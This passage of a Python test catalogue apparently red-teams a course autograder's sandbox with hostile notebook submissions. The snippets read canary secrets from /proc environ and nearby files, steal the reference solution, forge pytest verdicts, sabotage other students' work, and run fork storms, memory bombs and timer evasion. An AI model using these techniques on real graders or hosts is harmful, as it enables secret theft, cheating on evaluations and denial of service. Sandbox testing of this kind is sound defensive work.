                seen += len(files) + len(folders)
                if seen > 20000:  # bounded: a few levels around the notebook, not the whole disk
                    break
                for name in sorted(files):
                    if name.endswith((".ipynb", ".py")):  # the course's own files: 02-bpe-tokenizer.ipynb
                        continue
                    if any(word in name.lower() for word in ("canary", "secret", "token", "password")):
                        try:
                            found.append(Path(top, name).read_text(errors="replace")[:200].strip())
                        except OSError:
                            pass
    return " ".join(dict.fromkeys(found)) or "nothing found"
'''

ESCAPE_ENV = r'''
def _hx_env():
    return os.environ.get("HOSTILE_CANARY", "no canary")
'''

ESCAPE_PROC_ENVIRON = r'''
def _hx_environs():
    """The canary variable from other processes' environments: init's, the ancestors', everyone's."""
    pids, pid = ["1"], os.getppid()
    while pid > 1 and str(pid) not in pids:
        pids.append(str(pid))
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    pids += [p for p in os.listdir("/proc") if p.isdigit() and p not in pids]
    found = []
    for pid in pids:
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                items = f.read().split(b"\0")
        except OSError:
            continue
        found += [item.split(b"=", 1)[1].decode(errors="replace") for item in items
                  if item.startswith(b"HOSTILE_CANARY=")]
    return " ".join(dict.fromkeys(found)) or "no canary"
'''

ESCAPE_HOST_FILES = r'''
def _hx_host():
    """The machine's name, the home directory's listing, the course's README."""
    found = []
    try:
        found.append("hostname=" + Path("/etc/hostname").read_text().strip())
    except OSError:
        pass
    try:
        found.append("home=" + ",".join(sorted(os.listdir(Path.home()))))
    except OSError:
        pass
    for place in _hx_places():
        readme = place / "README.md"
        try:
            if readme.is_file() and (place / "autograder").is_dir():
                found.append("readme=" + readme.read_text(encoding="utf-8").splitlines()[0])
                break
        except (OSError, IndexError):
            continue
    return " | ".join(found) or "nothing"
'''

ESCAPE_LOAD_TIME = r'''
def _hx_raise_at_load():
    raise RuntimeError(os.environ.get("HOSTILE_CANARY", "no canary"))


_HX_LEAK = _hx_raise_at_load()
'''

LARGE_FILE = r'''
def _hx_large(folders, size=200 << 20):
    """Leave a large file behind in each folder; the marker is in its name."""
    chunk = b"\xa5" * (1 << 20)
    left = []
    for folder in folders:
        path = Path(folder) / "hx-__MARKER__-large.bin"
        try:
            with open(path, "wb") as f:
                for _ in range(size >> 20):
                    f.write(chunk)
            left.append(str(path))
        except OSError:
            continue
    return left
'''


# --- 5. resources --------------------------------------------------------------------------------

IGNORE_ALARM = r'''
def _hx_no_alarm():
    """Switch off the SIGALRM-based time limit, then spin."""
    import signal
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})
    while True:
        pass
'''

FORK_STORM = r'''
def _hx_storm(children=200):
    """Fork 200 children that sleep for a minute (bounded: no child forks again)."""
    import ctypes
    import time
    libc = ctypes.CDLL(None)
    for _ in range(children):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                libc.prctl(15, b"__MARKER__", 0, 0, 0)
                time.sleep(60)
            finally:
                os._exit(0)
    return True
'''

FORKED_MEMORY = r'''
def _hx_memory(children=3, size=1536 << 20):
    """Three forked children touch 1.5 GiB each and hold it together: 4.5 GiB at once, past a
    4 GiB cap that counts each process alone. Says BREACH if all three held it for a second."""
    import ctypes
    import select
    import time
    libc = ctypes.CDLL(None)
    ready_r, ready_w = os.pipe()
    release_r, release_w = os.pipe()
    pids = []
    for _ in range(children):
        pid = os.fork()
        if pid == 0:
            try:
                libc.prctl(15, b"__MARKER__", 0, 0, 0)
                os.close(ready_r)
                os.close(release_w)
                block = bytearray(size)  # zero-filled: every page is touched
                os.write(ready_w, b"+")
                os.read(release_r, 1)  # hold it until the parent lets go (or is gone)
            finally:
                os._exit(0)
        pids.append(pid)
    os.close(ready_w)
    os.close(release_r)
    held, deadline = b"", time.monotonic() + 15
    while len(held) < children and time.monotonic() < deadline:
        if not select.select([ready_r], [], [], max(0.0, deadline - time.monotonic()))[0]:
            break
        chunk = os.read(ready_r, children)
        if not chunk:
            break
        held += chunk
    time.sleep(1)
    alive = sum(os.waitpid(pid, os.WNOHANG) == (0, 0) for pid in pids)
    os.close(release_w)
    os.close(ready_r)
    for pid in pids:
        try:
            os.waitpid(pid, 0)
        except ChildProcessError:
            pass
    if len(held) == children and alive == children:
        raise RuntimeError(f"BREACH __MARKER__: {children} processes held {size >> 20} MiB each at once")
    return len(held)

'''

ALLOCATE = r'''
def _hx_allocate(size=8 << 30, breach=9 << 29):
    """One process maps 8 GiB and touches it, 1 MiB at a time; BREACH once 4.5 GiB are resident."""
    import mmap
    block = mmap.mmap(-1, size)
    zeros = bytes(1 << 20)
    for offset in range(0, breach, 1 << 20):
        block[offset:offset + (1 << 20)] = zeros
    raise RuntimeError(f"BREACH __MARKER__: one process touched {breach >> 20} MiB of {size >> 20} MiB")


_HX_BLOCK = _hx_once("allocate") and _hx_allocate()
'''

FLOOD = r'''
def _hx_flood(size=1 << 30):
    """1 GiB to stderr and 1 GiB to stdout, past Python's buffers."""
    chunk = b"hx flood " * (1 << 17)
    for fd in (2, 1):
        written = 0
        while written < size:
            written += os.write(fd, chunk[:min(len(chunk), size - written)])
    return True
'''

RUNAWAY_THREADS = r'''
def _hx_threads():
    """Threads that outlive the checks: one burns CPU, two keep appending to files next to the notebook."""
    import hashlib
    import threading
    import time

    def burn():
        block = b"hx" * (1 << 20)
        while True:
            hashlib.sha256(block).digest()  # burns a core without holding the GIL

    def append(path):
        while True:
            try:
                with open(path, "a") as f:
                    f.write("hx __MARKER__ still running\n")
            except OSError:
                pass
            time.sleep(0.01)
    threads = [threading.Thread(target=burn)]
    threads += [threading.Thread(target=append, args=(folder / "hx-__MARKER__-threads.log",))
                for folder in _hx_notebook_folders()[:2]]
    for thread in threads:
        thread.start()
    return len(threads)

'''


# --- 6. notebook format --------------------------------------------------------------------------

def deep_json() -> str:
    depth = 100_000
    return '{"cells": ' + "[" * depth + "]" * depth + ', "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'


def cells_of_odd_types() -> str:
    return json.dumps({"cells": [1, 2.5, None, "code", True, [], {"cell_type": 7}],
                       "metadata": None, "nbformat": 4, "nbformat_minor": 5})


def with_dict_sources(notebook: dict):
    for exercise in EXERCISES:
        solution_cell(notebook, exercise)["source"] = {"def": exercise, "lines": ["return 1"]}


def with_null_metadata(notebook: dict):
    notebook["metadata"] = None
    for cell in notebook["cells"]:
        cell["metadata"] = None


def with_odd_nbgrader(notebook: dict):
    odd = [lambda meta: [meta], lambda meta: "grade", lambda meta: None,
           lambda meta: {"grade": "yes", "solution": 1, "grade_id": 5, "points": "lots", "locked": None}]
    graded = [cell for cell in notebook["cells"] if "nbgrader" in cell.get("metadata", {})]
    for index, cell in enumerate(graded):
        cell["metadata"]["nbgrader"] = odd[index % len(odd)](cell["metadata"]["nbgrader"])
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"], cell["execution_count"] = 5, "never"


def not_utf8() -> bytes:
    text = release_notebook(A).read_bytes()
    return b"\xef\xbb\xbf" + text.replace(b"NotImplementedError", b"NotImplemented\xff\xfeError")


def stripped_with_honest_merge(notebook: dict):
    solution_cell(notebook, "merge")["source"] = reference_code("merge")
    for cell in notebook["cells"]:
        cell["metadata"] = {}


def duplicated_grade_ids(notebook: dict):
    cells = notebook["cells"]
    solution = solution_cell(notebook, "count_pairs")
    solution["source"] = reference_code("count_pairs")
    index = cells.index(solution)
    grade = next(c for c in cells if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "count_pairs")
    copies = []
    for _ in range(3):
        copies += [json.loads(json.dumps(solution)), json.loads(json.dumps(grade))]
    cells[index + 1:index + 1] = copies
    for cell in cells:  # every solution cell also claims to be count_pairs' grade cell
        nbgrader = cell.get("metadata", {}).get("nbgrader", {})
        if nbgrader.get("solution") and cell is not solution:
            nbgrader.update(grade=True, grade_id="count_pairs", points=2)


def invented_grade_id(notebook: dict):
    def cell(grade_id, source, solution):
        return {"cell_type": "code", "execution_count": None, "outputs": [], "source": source,
                "metadata": {"nbgrader": {"grade": True, "solution": solution, "grade_id": grade_id,
                                          "points": 1_000_000_000, "locked": False, "schema_version": 3}}}
    notebook["cells"] += [cell("bonus", "def bonus():\n    return 1\n", True),
                          cell("bonus_check", "assert bonus() == 1\n", False),
                          cell("count_pairs", "assert True\n", False)]


def junk_outputs(notebook: dict):
    megabyte = ["junk " * 200 + "\n"] * 1000
    code_cells = [cell for cell in notebook["cells"] if cell["cell_type"] == "code"]
    for index in range(50):  # 50 outputs of 1 MB, spread over the code cells
        code_cells[index % len(code_cells)]["outputs"] = code_cells[index % len(code_cells)].get("outputs", []) + [
            {"output_type": "stream", "name": "stdout", "text": megabyte}]


AST_BOMB = "_HX_BOMB = " + "+".join(["1"] * 20_000) + "\n"


# --- 7. determinism ------------------------------------------------------------------------------

HALF_CORRECT = {
    "count_pairs": reference_code("count_pairs"),
    # a plausible slip: a generator instead of a list (its repr carries a memory address)
    "merge": "def merge(ids, pair, new_id):\n    return (token for token in ids)\n",
    # right, but it caches its merges in a file in the working directory, sorted "to be readable":
    # a cached answer loses the order the merges were learned in
    "train_bpe": """import hashlib
import json


def train_bpe(text, vocab_size):
    if vocab_size < 256:
        raise ValueError(f"vocab_size must be at least 256, got {vocab_size}")
    key = hashlib.sha1(text.encode("utf-8")).hexdigest() + f":{vocab_size}"
    try:
        with open("bpe_cache.json", encoding="utf-8") as f:
            cache = json.load(f)
    except (OSError, ValueError):
        cache = {}
    if key in cache:
        return {(a, b): new_id for a, b, new_id in cache[key]}
    words = Counter(tuple(piece.encode("utf-8")) for piece in pretokenize(text))
    merges = {}
    for new_id in range(256, vocab_size):
        counts = Counter()
        for word, n in words.items():
            for pair in zip(word, word[1:]):
                counts[pair] += n
        if not counts:
            break
        best = min(counts, key=lambda pair: (-counts[pair], pair))
        merges[best] = new_id
        words = Counter({tuple(merge(list(word), best, new_id)): n for word, n in words.items()})
    cache[key] = sorted([a, b, new_id] for (a, b), new_id in merges.items())
    try:
        with open("bpe_cache.json", "w", encoding="utf-8") as f:
            json.dump(cache, f)
    except OSError:
        pass
    return merges
""",
    "apply_merges": reference_code("apply_merges"),
    # decodes token by token: a character split over two tokens is lost
    "decode": "def decode(ids, vocab):\n    return ''.join(vocab[i].decode('utf-8', errors='replace') for i in ids)\n",
    # tries the specials in set order (string hashing), not longest first
    "split_special": """def split_special(text, special_tokens):
    specials = set(special_tokens)
    pattern = "(" + "|".join(re.escape(s) for s in specials) + ")"
    return [part for part in re.split(pattern, text) if part] if specials else [text]
""",
}


# --- the catalogue -------------------------------------------------------------------------------

def _attacks() -> list[Attack]:
    reference, forge, harm, escape, resource, format_, determinism = KINDS
    return [
        # 1. reaching the reference
        Attack("globals-of-other-exercises", reference,
               "calls the reference through another exercise's function: its __globals__ is the reference's "
               "namespace while this exercise is checked", cells=delegating("count_pairs", STEAL_GLOBALS)),
        Attack("gc-function-objects", reference,
               "gc.get_objects() finds the reference's function objects on the heap",
               cells=delegating("merge", STEAL_GC)),
        Attack("stack-frames", reference,
               "walks up the stack to the running check and takes the `reference` fixture from pytest's item",
               cells=delegating("train_bpe", STEAL_FRAMES)),
        Attack("linecache-snapshot", reference,
               "a first cell snapshots linecache, where the grader leaves the cells it loads; while a check runs, "
               "it adds the cells loaded since (the reference's) and execs them",
               cells=delegating("apply_merges", STEAL_LINECACHE), load_cell=LINECACHE_SNAPSHOT),
        Attack("symlink-to-source", reference,
               "the submission is a symlink to the instructor notebook (refused: it scores 0)",
               make=symlink_to_reference),
        Attack("import-load-reference", reference,
               "imports autograder.notebook and calls load_reference('02-bpe-tokenizer'), which reads source/",
               cells=delegating("decode", STEAL_LOAD_REFERENCE), needs_sandbox=True),
        Attack("read-source-next-to-autograder", reference,
               "reads source/ (or solutions/) next to autograder.__file__ and execs its solution cells",
               cells=delegating("split_special", STEAL_AUTOGRADER_FILE), needs_sandbox=True),
        Attack("read-source-near-cwd-and-sys-path", reference,
               "looks for source/ and solutions/ in the working directory, the notebook's folder, sys.path, "
               "open files' folders and all their parents",
               cells=delegating("merge", STEAL_PLACES), needs_sandbox=True),
        Attack("glob-the-filesystem", reference,
               "globs /work/*, /*, /*/*/* ... for the instructor or solved notebook",
               cells=delegating("train_bpe", STEAL_GLOB), needs_sandbox=True),
        Attack("proc-cwd-of-other-processes", reference,
               "reads the notebook through /proc/<pid>/cwd of its ancestors (the grader runs in the course "
               "folder) and of every other process",
               cells=delegating("apply_merges", STEAL_PROC_CWD), needs_sandbox=True),
        # 2. forging the verdict
        Attack("patch-pytest-reports", forge, "patches _pytest.reports.BaseReport so every report has passed",
               cells=one("count_pairs", wrong_after("_hx_forge()"), FORGE_REPORTS)),
        Attack("register-pytest-hook", forge,
               "registers a makereport hookwrapper with the running plugin manager (found with gc)",
               cells=one("merge", wrong_after("_hx_forge()"), FORGE_HOOK)),
        Attack("rewrite-check-code-objects", forge,
               "replaces every hidden check's __code__ with a function that does nothing",
               cells=one("train_bpe", wrong_after("_hx_forge()"), FORGE_CHECK_CODE)),
        Attack("noop-check-helpers", forge,
               "replaces expect_equal/expect/expect_type in the hidden checks' module and autograder.checking",
               cells=one("apply_merges", noop_helpers_body, FORGE_CHECK_GLOBALS)),
        Attack("wrap-plugin-writer", forge,
               "finds the GradingPlugin with gc and wraps its write() so results say passed",
               cells=one("decode", wrong_after("_hx_forge()"), FORGE_WRITER)),
        Attack("patch-json-dumps", forge, "patches json.dumps so every result event serialised says passed",
               cells=one("split_special", wrong_after("_hx_forge()"), FORGE_JSON)),
        Attack("eq-always-true-subclasses", forge, "returns a dict subclass whose __eq__ is always True",
               cells=one("count_pairs", lambda ex: f"return _hx_equal_to_anything({ex!r}, _args)", EQ_SUBCLASSES)),
        Attack("eq-always-true-object", forge,
               "returns a plain object equal to everything (and empty, with every attribute)",
               cells=one("merge", lambda ex: "_hx_wrong('merge', _args)\nreturn _HxAnything()", EQ_OBJECT)),
        Attack("results-file-from-thread", forge,
               "a thread finds the results file (argv, /proc/self/fd), appends 'passed' for its exercise's "
               "checks, then os._exit(0) (the last exercise: a worker's exit must not spoil the others')",
               cells=one("split_special", lambda ex: wrong_after(f"_hx_start({ex!r})")(ex), FORGE_THREAD)),
        Attack("garbage-results-lines", harm,
               "writes malformed lines (broken JSON, wrong shapes, invalid UTF-8, 1 MB) to the results file",
               cells=one("apply_merges", wrong_after("_hx_garbage()"), HARM_GARBAGE)),
        Attack("results-file-at-exit", forge,
               "an atexit handler and a patched os._exit append 'passed' lines for its exercise's checks "
               "after the real results", cells=one("train_bpe", lambda ex: wrong_after(f"_hx_install({ex!r})")(ex),
                                              FORGE_ATEXIT)),
        # 3. harming others
        Attack("rewrite-hidden-checks", harm,
               "appends a no-op expect_equal to autograder/checks/test_*.py and plants checks/conftest.py",
               cells=one("count_pairs", wrong_after("_hx_vandalise()"), HARM_CHECKS), needs_sandbox=True),
        Attack("rewrite-source-points", harm, "rewrites the instructor notebook: every exercise worth 1000",
               cells=one("merge", wrong_after("_hx_rewrite_points()"), HARM_POINTS), needs_sandbox=True),
        Attack("blank-other-submissions", harm,
               "globs the sibling submissions (nbgrader's layout) and blanks their solution cells",
               cells=one("train_bpe", wrong_after("_hx_sabotage_others()"), HARM_OTHERS), needs_sandbox=True),
        Attack("forge-runner-replies", harm,
               "writes fake 'finished' replies into the parent process's pipes (/proc/<ppid>/fd)",
               cells=one("split_special", wrong_after("_hx_poison()"), HARM_PIPE), needs_sandbox=True),
        Attack("exit-between-checks", harm,
               "returns, and 10 ms later a thread ends its worker (os._exit(0)) while it waits for the next "
               "request; the other exercises are honest: a crash must cost its own exercise only",
               cells=one("count_pairs", wrong_after("_hx_exit_soon()"), EXIT_BETWEEN_CHECKS)),
        Attack("detached-gradebook-writer", harm,
               "a double-forked process in its own session sleeps 2 s, then writes into gradebook.db",
               cells=one("apply_merges", wrong_after("_hx_detach()"), HARM_GRADEBOOK),
               needs_sandbox=True, delayed=True),
        # 4. escapes
        Attack("read-environment", escape, "returns the canary environment variable",
               cells=exfiltrating("decode", "_hx_env()", ESCAPE_ENV)),
        Attack("leak-while-loading", escape,
               "a cell raises the canary variable while the notebook loads (the feedback's problems list)",
               load_cell=PRELUDE + ESCAPE_LOAD_TIME),
        Attack("large-file-next-to-notebook", escape,
               "leaves a 200 MB file in the working directory and the notebook's folder",
               cells=one("merge", wrong_after("_hx_large(_hx_notebook_folders())"), LARGE_FILE)),
        Attack("sockets", escape,
               "connects to the test's listeners on 127.0.0.1, ::1 and an abstract unix socket, and learns its "
               "route out (a UDP connect: no packet is sent); returns what it got",
               cells=exfiltrating("split_special", "_hx_sockets()", ESCAPE_SOCKETS), needs_sandbox=True),
        Attack("read-canary-file", escape, "reads secret-looking files around the submission folder, returns them",
               cells=exfiltrating("count_pairs", "_hx_files()", ESCAPE_CANARY_FILE), needs_sandbox=True),
        Attack("read-proc-environ", escape,
               "reads /proc/1/environ, the ancestors' and every process's environ for the canary variable",
               cells=exfiltrating("decode", "_hx_environs()", ESCAPE_PROC_ENVIRON), needs_sandbox=True),
        Attack("read-host-files", escape, "returns /etc/hostname, the home directory's listing, the repo's README",
               cells=exfiltrating("train_bpe", "_hx_host()", ESCAPE_HOST_FILES), needs_sandbox=True),
        Attack("large-file-in-tmp", escape, "leaves 200 MB files in the temp folder, /tmp, /var/tmp and /dev/shm",
               cells=one("decode", wrong_after("_hx_large(sorted({__import__('tempfile').gettempdir(), '/tmp', "
                                               "'/var/tmp', '/dev/shm'}))"), LARGE_FILE), needs_sandbox=True),
        # 5. resources
        Attack("infinite-loop", resource, "merge never returns",
               cells=one("merge", lambda ex: "while True:\n    pass")),
        Attack("sleep-forever", resource, "split_special sleeps for 11 days",
               cells=one("split_special", lambda ex: "import time\ntime.sleep(10 ** 6)")),
        Attack("ignore-sigalrm", resource, "ignores and blocks SIGALRM, cancels the interval timer, then spins",
               cells=one("apply_merges", lambda ex: "_hx_no_alarm()", IGNORE_ALARM)),
        Attack("huge-return-values", resource,
               "count_pairs returns a 10-million-element list (80 MB as JSON), decode a 256 MiB string, past "
               "the channel's 64 MiB (once per process each)",
               cells={ex: one(ex, lambda ex: f"if _hx_once('huge-{ex}'):\n    return {huge}\n"
                                             f"return _hx_wrong({ex!r}, _args)")[ex]
                      for ex, huge in (("count_pairs", "[1_234_567] * 10_000_000"), ("decode", "'x' * (256 << 20)"))}),
        Attack("fork-storm", resource, "forks 200 children that sleep 60 s",
               cells=one("count_pairs", wrong_after("_hx_storm()"), FORK_STORM)),
        Attack("forked-memory", resource,
               "three forked children touch 1.5 GiB each and hold it together (says BREACH in its feedback "
               "if they all did)", cells=one("count_pairs", wrong_after("_hx_memory()"), FORKED_MEMORY)),
        Attack("allocate-8-gib", resource,
               "while loading, one process maps 8 GiB and touches it (says BREACH past 4.5 GiB)",
               load_cell=PRELUDE + ALLOCATE),
        Attack("flood-stdout-stderr", resource, "writes 1 GiB to stderr and 1 GiB to stdout",
               cells=one("decode", wrong_after("_hx_flood()"), FLOOD)),
        Attack("file-of-1-gib", resource, "writes a 1 GiB file in its working directory",
               cells=one("count_pairs", wrong_after("_hx_large(['.'], 1 << 30)"), LARGE_FILE)),
        Attack("runaway-threads", resource,
               "threads burn CPU and keep appending to files next to the notebook (the last exercise: they "
               "run until grading ends)", cells=one("split_special", wrong_after("_hx_threads()"), RUNAWAY_THREADS),
               delayed=True),
        # 6. notebook format
        Attack("json-nested-100000-deep", format_, "valid JSON nested 100 000 levels deep",
               make=text_file(deep_json)),
        Attack("cells-of-odd-types", format_, "cells that are numbers, strings, null, lists; metadata null",
               make=text_file(cells_of_odd_types)),
        Attack("source-is-a-dict", format_, "solution cells whose source is a dict", edit=with_dict_sources),
        Attack("nbgrader-metadata-of-odd-types", format_,
               "nbgrader metadata that is a list, a string, null, or has strings for booleans and points",
               edit=with_odd_nbgrader),
        Attack("not-utf8", format_, "a byte-order mark and bytes that are not UTF-8", make=text_file(not_utf8)),
        Attack("junk-outputs-50-mb", format_, "50 MB of junk outputs", edit=junk_outputs),
        Attack("expression-nested-20000-deep", format_,
               "a cell with an UPPER_CASE assignment of a 20 000-term sum (its syntax tree is 20 000 deep)",
               load_cell=AST_BOMB),
        Attack("metadata-null", format_, "every cell's metadata (and the notebook's) is null",
               edit=with_null_metadata),
        Attack("nbgrader-metadata-stripped", format_,
               "all metadata stripped; merge is honestly solved (worth its 2 points)",
               edit=stripped_with_honest_merge, max_points=2.0),
        Attack("duplicated-grade-ids", format_,
               "count_pairs' solution and grade cells three times over, and every solution cell claims to be "
               "count_pairs' grade cell; count_pairs is honestly solved (worth its 2 points)",
               edit=duplicated_grade_ids, max_points=2.0),
        Attack("invented-grade-id", format_, "new grade cells (bonus, a second count_pairs) worth 10^9 points",
               edit=invented_grade_id),
        # 7. determinism
        Attack("half-correct", determinism,
               "an honest, half-correct notebook (a generator for a list, set-ordered specials, a train_bpe that "
               "caches its merges in a file, sorted; byte-wise decode) graded 3 times must give identical JSON",
               cells=HALF_CORRECT, max_points=15.0),
    ]


ATTACKS = _attacks()
BY_NAME = {attack.name: attack for attack in ATTACKS}


def _submissions() -> list[Submission]:
    def sub(group, name, *attacks, **options):
        return Submission(name, tuple(BY_NAME[a] for a in attacks), group=group, **options)
    only_unsandboxed = {"modes": ("none",)}
    return [
        sub("secrets-and-verdicts", "reference-in-memory",
            "globals-of-other-exercises", "gc-function-objects", "stack-frames", "linecache-snapshot",
            "import-load-reference", "read-source-next-to-autograder"),
        sub("secrets-and-verdicts", "symlink-to-source", "symlink-to-source"),
        sub("secrets-and-verdicts", "reference-and-secrets-on-disk",
            "read-canary-file", "read-source-near-cwd-and-sys-path", "glob-the-filesystem",
            "proc-cwd-of-other-processes", "read-proc-environ", "sockets"),
        sub("secrets-and-verdicts", "escape-and-leftovers",  # delayed: last in its group
            "leak-while-loading", "expression-nested-20000-deep", "file-of-1-gib",
            "large-file-next-to-notebook", "read-host-files", "detached-gradebook-writer", "flood-stdout-stderr",
            "runaway-threads"),
        sub("secrets-and-verdicts", "forge-inside-the-worker",
            "patch-pytest-reports", "register-pytest-hook", "rewrite-check-code-objects", "noop-check-helpers",
            "wrap-plugin-writer", "patch-json-dumps"),
        sub("secrets-and-verdicts", "forge-the-answers-and-the-results-file",
            "eq-always-true-subclasses", "eq-always-true-object", "results-file-from-thread",
            "garbage-results-lines", "read-environment", "results-file-at-exit"),
        sub("secrets-and-verdicts", "harm-the-course-and-others",
            "rewrite-hidden-checks", "rewrite-source-points", "blank-other-submissions", "large-file-in-tmp",
            "forge-runner-replies"),
        # alone in notebooks whose other exercises are honest: killing one exercise's processes must
        # cost that exercise only
        sub("resources", "fork-storm", "fork-storm", honest_rest=True),
        sub("resources", "memory", "allocate-8-gib", "forked-memory", honest_rest=True),
        sub("resources", "exit-between-checks", "exit-between-checks", honest_rest=True),
        sub("resources", "time-outs-and-huge-answers", "infinite-loop", "ignore-sigalrm", "sleep-forever",
            "huge-return-values", honest_rest=True, **only_unsandboxed),
        *[sub("format-and-determinism", name, name) for name in
          ("json-nested-100000-deep", "cells-of-odd-types", "source-is-a-dict", "nbgrader-metadata-of-odd-types",
           "not-utf8", "junk-outputs-50-mb")],
        sub("format-and-determinism", "metadata-null", "metadata-null", **only_unsandboxed),
        sub("format-and-determinism", "nbgrader-metadata-stripped", "nbgrader-metadata-stripped", **only_unsandboxed),
        sub("format-and-determinism", "forged-grade-cells", "duplicated-grade-ids", "invented-grade-id",
            **only_unsandboxed),
        sub("format-and-determinism", "half-correct-three-times", "half-correct", repeat=3),
    ]


SUBMISSIONS = _submissions()


def groups(submissions=SUBMISSIONS) -> list[tuple[str, list[Submission]]]:
    """(group, its submissions in catalogue order); submissions that act later come last in their group."""
    out = {}
    for submission in submissions:
        out.setdefault(submission.group, []).append(submission)
    return [(name, sorted(members, key=lambda s: s.delayed)) for name, members in out.items()]
